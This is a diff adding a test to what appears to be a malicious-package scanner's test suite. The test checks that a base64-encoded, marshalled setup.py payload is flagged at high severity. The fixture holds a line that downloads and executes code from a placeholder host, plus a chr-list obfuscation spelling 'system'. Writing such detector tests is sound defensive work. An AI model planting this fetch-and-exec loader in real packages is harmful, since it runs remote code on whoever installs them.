@@ -115,6 +115,14 @@ def test_source_carried_by_marshalled_code_is_analysed() -> None:
     assert any(f.code == "PKG003" and f.severity >= Severity.HIGH for f in findings(items))
 
 
+def test_base64_source_inside_marshalled_code_is_analysed() -> None:
+    inner = "exec(__import__('urllib.request').request.urlopen('https://x.invalid/p').read())"
+    encoded = base64.b64encode(inner.encode()).decode()
+    source = f"import base64\nPAYLOAD = {encoded!r}\nexec(base64.b64decode(PAYLOAD))\n"
+    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": _marshalled_setup(source)}))
+    assert any(f.code == "PKG003" and f.severity >= Severity.HIGH for f in findings(items))
+
+
 def test_builtins_getattr_indirection_resolves() -> None:
     setup = (
         "name = ''.join(map(chr, [115, 121, 115, 116, 101, 109]))\n"
